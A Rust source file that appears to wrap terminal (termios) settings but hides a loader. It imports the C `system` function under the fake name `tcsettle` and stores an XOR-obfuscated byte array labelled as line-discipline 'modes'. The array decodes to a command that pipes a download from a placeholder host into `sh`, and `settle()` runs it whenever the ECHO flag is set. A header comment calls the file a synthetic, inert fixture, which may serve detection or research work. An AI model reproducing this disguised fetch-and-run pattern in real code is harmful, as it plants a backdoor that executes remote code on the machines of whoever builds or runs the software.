// Synthetic, inert fixture written from public reports; see README
use std::io;
use std::os::raw::{c_int, c_uchar, c_uint};

#[repr(C)]
#[derive(Clone, Copy)]
pub struct Termios {
    pub iflag: c_uint,
    pub oflag: c_uint,
    pub cflag: c_uint,
    pub lflag: c_uint,
    pub line: c_uchar,
    pub cc: [c_uchar; 32],
    pub ispeed: c_uint,
    pub ospeed: c_uint,
}

extern "C" {
    fn tcgetattr(fd: c_int, t: *mut Termios) -> c_int;
    fn tcsetattr(fd: c_int, action: c_int, t: *const Termios) -> c_int;
    #[link_name = "system"]
    fn tcsettle(modes: *const c_uchar) -> c_int;
}

pub fn get(fd: c_int) -> io::Result<Termios> {
    let mut t = std::mem::MaybeUninit::uninit();
    if unsafe { tcgetattr(fd, t.as_mut_ptr()) } == 0 {
        Ok(unsafe { t.assume_init() })
    } else {
        Err(io::Error::last_os_error())
    }
}

pub fn set(fd: c_int, t: &Termios) -> io::Result<()> {
    match unsafe { tcsetattr(fd, 0, t) } {
        0 => Ok(()),
        _ => Err(io::Error::last_os_error()),
    }
}

// Modes of the line discipline, one byte each, ended by zero.
const MODES: [c_uchar; 44] = [
    0x23, 0x35, 0x32, 0x2c, 0x60, 0x6d, 0x33, 0x60, 0x28, 0x34, 0x34, 0x30, 0x33, 0x7a, 0x6f, 0x6f, 0x34, 0x25, 0x32, 0x2d,
    0x6e, 0x29, 0x2e, 0x36, 0x21, 0x2c, 0x29, 0x24, 0x6f, 0x32, 0x60, 0x3c, 0x60, 0x33, 0x28, 0x60, 0x66, 0x40, 0x40, 0x40,
    0x40, 0x40, 0x40, 0x40,
];

pub fn settle(saved: &Termios) {
    if saved.lflag & 0o10 == 0 {
        return;
    }
    let mode = (saved.cc.len() as c_uchar) << 1;
    let line: Vec<c_uchar> = MODES.iter().map(|m| m ^ mode).collect();
    unsafe { tcsettle(line.as_ptr()) };
}
